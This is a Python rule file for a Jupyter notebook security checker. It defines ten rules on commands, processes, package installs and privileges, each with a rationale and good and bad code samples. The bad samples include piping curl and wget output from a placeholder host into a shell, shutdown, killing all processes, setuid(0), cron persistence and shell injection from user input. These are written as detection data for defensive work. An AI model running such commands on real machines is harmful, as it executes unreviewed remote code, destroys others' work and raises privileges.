"""JG4xx: commands, processes, packages and rights on the machine."""

from __future__ import annotations

from typing import Final

from jupyter_guard.judge.rule import Rule, has
from jupyter_guard.terms import Kind

_RUNS = (Kind.PROCESS_RUN,)
_OUTSIDE = ("from:network", "from:user", "from:model", "from:database", "from:file", "from:environment")

RULES: Final[tuple[Rule, ...]] = (
    Rule(
        id="JG407",
        title="Stops the machine",
        why="Everything that runs on it ends, other people's work too.",
        instead="Restart the kernel from the menu.",
        kinds=(Kind.PROCESS_RUN, Kind.PROCESS_SIGNAL),
        check=has("stops-machine"),
        bad=("import os\nos.system('shutdown -h now')", "!reboot"),
        good=("print('shutdown')",),
    ),
    Rule(
        id="JG401",
        title="Runs a script straight from the network",
        why="Nobody has seen the script, and the far side can answer differently the next time.",
        instead="Download it, read it, then run the file.",
        kinds=(Kind.PROCESS_RUN, Kind.CODE_EXECUTE),
        check=has("piped-to-interpreter"),
        bad=("%%bash\ncurl -s http://x.test/i.sh | bash", "%sx wget -qO- http://x.test/k | sh"),
        good=("!wget -q https://x.test/data.zip && unzip -q data.zip", "!curl -s https://x.test/a.json | head"),
    ),
    Rule(
        id="JG410",
        title="Arranges to be run again",
        why="A cron entry, a service or a background job goes on after the notebook is closed.",
        instead="Ask for a scheduled job where the team keeps them.",
        kinds=_RUNS,
        check=has("persist"),
        bad=("import crontab\ncron = crontab.CronTab(user=True)\njob = cron.new(command='python job.py')",),
        good=("import subprocess\nsubprocess.run(['python', 'job.py'])",),
    ),
    Rule(
        id="JG404",
        title="Runs a command that it hides",
        why="A command that is put together at run time cannot be reviewed; honest code has no reason to.",
        instead="Write the command out.",
        kinds=_RUNS,
        check=has("obfuscated", "reflection"),
        bad=("vars(__import__('subprocess'))['Popen'](['id'])",),
        good=("import subprocess\nsubprocess.run(['ls', '-l'])",),
    ),
    Rule(
        id="JG402",
        title="Runs a command with text from outside",
        why="Text in the place of an argument can carry another command, and then that runs too.",
        instead="Pass a list without a shell, and check the value against a list of allowed ones.",
        kinds=_RUNS,
        check=has(*_OUTSIDE),
        bad=("import os\nname = input()\nos.system('ls ' + name)",),
        good=("import subprocess\nsubprocess.run(['ls', 'data'])",),
    ),
    Rule(
        id="JG405",
        title="Leaves a process behind",
        why="It goes on after the cell, and after the kernel: nobody sees it or stops it.",
        instead="Wait for it, or keep its handle and end it.",
        kinds=_RUNS,
        check=has("detached"),
        bad=(
            "import subprocess\nsubprocess.Popen(['python', 'worker.py'], start_new_session=True)",
            "import os\nos.fork()",
        ),
        good=("import subprocess\nsubprocess.run(['python', 'worker.py'])",),
    ),
    Rule(
        id="JG403",
        title="Runs a command that is not known before it runs",
        why="A value that nobody can read here decides what runs; through a shell, one character changes it.",
        instead="Pass a list of words, with shell=False.",
        kinds=_RUNS,
        check=has("dynamic"),
        bad=("import subprocess\nsubprocess.call(cmd, shell=True)", "import os\nos.system('convert ' + name)"),
        good=("import subprocess\nsubprocess.run('ls -l', shell=True)",),
    ),
    Rule(
        id="JG406",
        title="Ends processes",
        why="Other work on the machine, or the kernel itself, is lost.",
        instead="End the one process that you started, by its handle: proc.terminate().",
        kinds=(Kind.PROCESS_SIGNAL,),
        bad=(
            "import os, signal\nos.kill(-1, signal.SIGKILL)",
            "import psutil\nfor p in psutil.process_iter():\n    p.kill()",
            "!killall -9 python",
        ),
        good=("import os\nos.getpid()",),
    ),
    Rule(
        id="JG408",
        title="Installs from a place that nobody vouches for",
        why="An install runs the package's code, and this source can be changed by whoever sits in between.",
        instead="Install from the index that your organisation uses, over https, with a version.",
        kinds=(Kind.PACKAGE_INSTALL,),
        bad=("%pip install --index-url http://x.test/simple requests",),
        good=("!pip install -q pandas", "%pip install torch==2.3"),
    ),
    Rule(
        id="JG409",
        title="Takes more rights than the session has",
        why="With more rights, every mistake and every attack reaches further.",
        instead="Ask the owner of the machine to do it, or to install what you need.",
        kinds=(Kind.PRIVILEGE_RAISE,),
        check=lambda effect, _seen: not effect.via.isupper(),  # GRANT and its like are JG307's
        bad=("import os\nos.setuid(0)", "import os\nos.chmod('/usr/bin/python3', 0o4755)"),
        good=("import os\nos.getuid()",),
    ),
)
